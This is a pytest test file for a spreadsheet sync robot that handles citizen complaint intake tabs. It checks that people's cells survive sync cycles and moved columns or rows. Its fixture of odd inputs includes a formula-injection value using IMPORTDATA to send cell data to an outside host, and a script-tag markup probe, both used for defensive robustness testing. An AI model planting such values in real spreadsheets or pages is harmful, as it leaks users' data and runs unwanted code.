"""Whatever people type or move while the robot works: it stays theirs, and one cycle is enough."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from automation.cases.events import JOURNAL
from automation.model.cells import CellError, Value
from automation.sheets.looks.intake import is_line
from automation.sheets.prepare import INTAKE_COLUMNS
from automation.tables import intake
from automation.tables.intake import PEOPLE, ROBOT
from automation.tables.kendali import REGISTER, REPAIRS, SOURCES
from automation.tables.table import Column
from tests.google_city import City, link
from tests.local_city import GOOD_ROW, LocalCity
from tests.sheets_server.fixtures import Google
from tests.sheets_server.people import Person
from tests.town import NOTE, WORDS

pytestmark = pytest.mark.sampled(2)

TYPED = [column for column in PEOPLE if column is not intake.KELURAHAN]
ODD: dict[str, Value] = {
    "formula": '=IMPORTDATA("https://example.org/?"&A1)',
    "plus": "+62 812-0000-1021",
    "at": "@x {0} {nama} %s",
    "minus": "-1+1",
    "lines": "satu\r\ndua\rtiga\n\n\tempat",
    "control": "a\x01b\x08c\x1bde",
    "right to left": "\u202eabc\u202c \u0645\u0631\u062d\u0628\u0627 \u200f",
    "emoji": "\U0001f6a7\U0001f468\u200d\U0001f469\u200d\U0001f467 lampu mati total \U0001f6a7",
    "markup": "<script>alert(1)</script> &amp; </td>",
    "escaped": "_x000D_ _x0041_ lubang di jalan",
    "quote": "'0812",
    "spaces": "  \u00a0 lampu \u2003 mati  ",
    "next line": "satu\u0085dua\u2028tiga",
    "long": "got mampet " * 2900,
    "number": 81200001021.0,
    "fraction": 0.1,
    "yes": True,
    "error": CellError("#REF!"),
}


class Both:
    """The same city on either kind of workbook: one spreadsheet with the tab Gondrong, typed into and read."""

    def __init__(self, google: Google | None, folder: Path) -> None:
        titles = [str(title) for title in INTAKE_COLUMNS]
        if google is None:
            self.local = LocalCity.lay_out(folder, {"Laporan": ("Gondrong",)})
            self.run: Callable[..., int] = self.local.run
            return
        self.city = City(google, folder)
        self.person = google.spreadsheet("Laporan", {"Gondrong": [[*titles, NOTE]]})
        self.city.run("setup")
        self.city.kendali.set(SOURCES, 1, 0, "Laporan")
        self.city.kendali.set(SOURCES, 1, 1, link(self.person))
        assert self.city.run("setup") == 0
        self.run = self.city.run

    def type(self, rows: list[dict[str, Value]]) -> None:
        """Type complaints from the first row on."""
        titles = [*map(str, INTAKE_COLUMNS), NOTE]
        cells = {
            (number, titles.index(str(heading))): value
            for number, row in enumerate(rows, start=1)
            for heading, value in {**GOOD_ROW, **row}.items()
        }
        if hasattr(self, "local"):
            # What no xlsx file can hold does not get there, whoever types it.
            plain = {
                place: "".join(c for c in value if c >= " " or c in "\n\t") if isinstance(value, str) else value
                for place, value in cells.items()
            }
            self.local.put("Laporan", "Gondrong", plain)
        else:
            for (row, column), value in cells.items():
                self.person.set("Gondrong", row, column, value)

    def rows(self, tab: str, *, kendali: bool = False) -> list[list[Any]]:
        """What a tab shows."""
        if hasattr(self, "local"):
            return self.local.rows("Kendali" if kendali else "Laporan", tab)
        return (self.city.kendali if kendali else self.person).values(tab)

    def writes(self) -> object:
        """Something that changes when anything is written."""
        return self.local.files() if hasattr(self, "local") else self.city.server.count("batchUpdate")


@pytest.fixture(params=["local", "google"])
def both(request: pytest.FixtureRequest, tmp_path: Path) -> Both:
    google = request.getfixturevalue("google") if request.param == "google" else None
    return Both(google, tmp_path)


def test_whatever_stands_in_peoples_columns_the_second_cycle_writes_nothing(both: Both) -> None:
    rows: list[dict[str, Value]] = []
    for kind, value in ODD.items():
        rows.append({NOTE: kind, **{str(column): value for column in TYPED}})
        for column in (intake.NAME, intake.ADDRESS, intake.DESCRIPTION, intake.ASSIGNEE, intake.TOLD):
            row: dict[str, Value] = {NOTE: f"{kind} di {column}", column: value}
            if column is not intake.NAME:
                row[intake.NAME] = f"Warga {len(rows)}"
            rows.append({**row, intake.RT_RW: f"{len(rows):03}/001"})
    both.type(rows)
    mine = [row[len(ROBOT) :] for row in both.rows("Gondrong")]
    assert both.run("sync") == 0
    written = both.writes()
    assert [row[len(ROBOT) :] for row in both.rows("Gondrong")] == mine
    assert sum(bool(row[0]) for row in both.rows("Gondrong")[1:]) > 40
    assert both.run("sync") == 0
    assert both.writes() == written


# Columns and rows that are moved between reading and writing: only on Google, where nothing can be locked


@pytest.fixture
def city(google: Google, tmp_path: Path) -> City:
    """One spreadsheet whose people keep a column of their own on the left, and two complaints without tickets."""
    city = City(google, tmp_path)
    titles = ["Urgensi", *map(str, INTAKE_COLUMNS), NOTE]
    person = google.spreadsheet("Laporan", {"Gondrong": [list(titles)]})
    city.spreadsheets["Laporan"] = person
    city.run("setup")
    city.kendali.set(SOURCES, 1, 0, "Laporan")
    city.kendali.set(SOURCES, 1, 1, link(person))
    assert city.run("setup") == 0
    for number, identity in enumerate(("yati", "amir"), start=1):
        city.type("Laporan", "Gondrong", identity, GOOD_ROW, name=f"Warga {identity}", phone=f"08120000102{number}")
        person.set("Gondrong", number, 0, f"penting {identity}")
    return city


def people_of(person: Person) -> list[dict[str, Value]]:
    """What people typed, by heading, whatever the columns' order."""
    titles, *rows = person.values("Gondrong")
    return [
        {str(title): value for title, value in zip(titles, row, strict=False) if title not in ROBOT and value}
        for row in rows
    ]


#: What people do to the tab Gondrong, by what it is called: each is a method of `Person` with its arguments.
MOVES: dict[str, list[tuple[str, tuple[int, ...]]]] = {
    "a column inserted at the left": [("insert_column", (0,))],
    "two columns inserted at the left": [("insert_column", (0, 2))],
    "a column inserted among the robot's": [("insert_column", (3,))],
    "a column of the robot deleted": [("delete_column", (2,))],
    "a row inserted among the complaints": [("insert_row", (2,))],
    "a row inserted above the headings": [("insert_row", (0,))],
    "two rows inserted above the headings": [("insert_row", (0, 2))],
    "a column and a row inserted": [("insert_column", (0,)), ("insert_row", (0,))],
    "columns inserted and rows sorted": [("insert_column", (0, 3)), ("sort", (11,))],
}


@pytest.mark.parametrize("how", MOVES)
def test_what_people_typed_is_theirs_again_after_columns_or_rows_moved_meanwhile(city: City, how: str) -> None:
    person = city.spreadsheets["Laporan"]
    before = people_of(person)

    def move() -> None:
        for method, arguments in MOVES[how]:
            getattr(person, method)("Gondrong", *arguments)

    city.server.before("batchUpdate", move)
    code = city.run("sync")
    if "deleted" in how:
        assert code == 1  # a heading is missing: the tab waits for a person
    else:
        assert code == 0
    rows = person.values("Gondrong")
    top = next(number for number, row in enumerate(rows) if "Uraian" in row)
    people = [row for row in people_of_below(rows, top) if row]
    assert sorted(map(str, people)) == sorted(map(str, before))
    assert [title for title in rows[top] if title and not is_line(title, WORDS)] == [
        title for title in ["Urgensi", *INTAKE_COLUMNS, NOTE] if not ("deleted" in how and title == "Pemeriksaan")
    ]
    assert not any(value for row in rows[:top] for value in row)
    events = person.values(JOURNAL)[1:]
    assert [row[3] for row in events] == ["Diterbitkan"] * 2, "the robot took its own writing for people's"


def people_of_below(rows: list[list[Value]], top: int) -> list[dict[str, Value]]:
    return [
        {str(title): value for title, value in zip(rows[top], row, strict=False) if title not in ROBOT and value}
        for row in rows[top + 1 :]
    ]


def test_each_ticket_stands_beside_its_own_complaint_after_columns_moved(city: City) -> None:
    person = city.spreadsheets["Laporan"]
    city.server.before("batchUpdate", lambda: person.insert_column("Gondrong", 0, 2))
    city.run("sync")
    tickets = city.tickets("Laporan", "Gondrong")
    assert tickets == {"yati": "RR-260504-0001-3", "amir": "RR-260504-0002-1"}
    written = city.server.count("batchUpdate")
    city.run("sync")
    assert city.server.count("batchUpdate") == written


def test_a_cell_that_is_emptied_by_mistake_is_given_back(city: City) -> None:
    """The robot clears a cell of its own; meanwhile a column was inserted, and people's cell stands in its place."""
    person = city.spreadsheets["Laporan"]
    titles = person.values("Gondrong")[0]
    person.set("Gondrong", 1, titles.index(intake.LATENESS), "basi")
    person.set("Gondrong", 1, titles.index(intake.RESOLVED), "basi")
    before = people_of(person)
    city.server.before("batchUpdate", lambda: person.delete_column("Gondrong", 0))
    assert city.run("sync") == 0
    after = people_of(person)
    assert after == [{key: value for key, value in row.items() if key != "Urgensi"} for row in before]


def test_a_link_in_sumber_is_given_back_when_a_column_was_inserted_before_it(city: City) -> None:
    city.run("sync")
    before = city.kendali.values(SOURCES)[1][:2]
    city.type("Laporan", "Gondrong", "sri", GOOD_ROW, name="Bu Sri", phone="081200001023")
    # The first write of this cycle goes to the spreadsheet, the second to Kendali.
    city.server.before("batchUpdate", lambda: None)
    city.server.before("batchUpdate", lambda: city.kendali.insert_column(SOURCES, 0))
    assert city.run("sync") == 0
    titles, row = city.kendali.values(SOURCES)[:2]
    assert titles[:3] == [None, "Nama", "Tautan"] and row[:3] == [None, *before]
    assert row[4:] == [3, "Baik"]


def test_rows_of_sumber_sorted_meanwhile_end_with_their_own_health(city: City) -> None:
    city.kendali.set(SOURCES, 2, 0, "Aneh")
    city.kendali.set(SOURCES, 2, 1, "https://docs.google.com/spreadsheets/d/1TidakAdaTidakAdaTidakAda/edit")
    city.server.before("batchUpdate", lambda: None)
    city.server.before("batchUpdate", lambda: city.kendali.sort(SOURCES, 0))
    assert city.run("sync") == 1
    aneh, laporan = city.kendali.values(SOURCES)[1:3]
    assert (aneh[0], aneh[2:4]) == ("Aneh", [None, None]) and "1TidakAda" in str(aneh[4])
    assert (laporan[0], laporan[3:]) == ("Laporan", [2, "Baik"])


def test_notes_in_the_register_are_given_back_when_a_column_was_inserted(city: City) -> None:
    city.run("sync")
    width = len(city.kendali.values(REGISTER)[0])
    city.kendali.set(REGISTER, 0, width, "Catatan Fraksi")
    city.kendali.insert_column(REGISTER, 0)
    city.kendali.set(REGISTER, 0, 0, "Rapat")
    city.kendali.set(REGISTER, 1, 0, "bahas Senin")
    city.spreadsheets["Laporan"].set("Gondrong", 1, 17, "Diverifikasi")
    city.type("Laporan", "Gondrong", "sri", GOOD_ROW, name="Bu Sri", phone="081200001023")
    city.server.before("batchUpdate", lambda: None)
    city.server.before("batchUpdate", lambda: city.kendali.delete_column(REGISTER, 1))
    city.run("sync")
    rows = city.kendali.values(REGISTER)
    assert rows[0][0] == "Rapat" and rows[1][0] == "bahas Senin"
    assert "No. Tiket" in rows[0]
    assert city.kendali.values(REPAIRS)


def test_a_spreadsheet_that_is_never_still_waits_for_the_next_cycle(
    city: City, capsys: pytest.CaptureFixture[str]
) -> None:
    person = city.spreadsheets["Laporan"]
    person.insert_row("Gondrong", 3, 3)
    for _ in range(30):
        city.server.before("batchUpdate", lambda: person.insert_row("Gondrong", 1))
    assert city.run("sync") == 1
    assert "sedang banyak yang mengubah" in capsys.readouterr().out
    city.server._before.clear()
    assert city.run("sync") == 0
    assert city.tickets("Laporan", "Gondrong")["amir"]


def test_a_description_of_emoji_fits_the_journal(tmp_path: Path) -> None:
    """xlsx counts an emoji as two characters."""
    city = LocalCity.lay_out(tmp_path, {"Laporan": ("Gondrong",)})
    city.type("Laporan", "Gondrong", {NOTE: "x", intake.DESCRIPTION: "lampu mati total " + "🚧" * 16370})
    assert city.run("sync") == 0


@pytest.mark.parametrize(
    ("column", "value"),
    [(intake.NAME, "Ja\x7fln"), (intake.ASSIGNEE, "J\uffffx"), (intake.CATEGORY, "Jaln\uffffx")],
)
def test_characters_that_no_spreadsheet_keeps_are_written_once(
    google: Google, tmp_path: Path, column: Column, value: str
) -> None:
    both = Both(google, tmp_path)
    both.type([{NOTE: "x", str(column): value}])
    assert both.run("sync") == 0
    written = both.writes()
    assert both.run("sync") == 0
    assert both.writes() == written
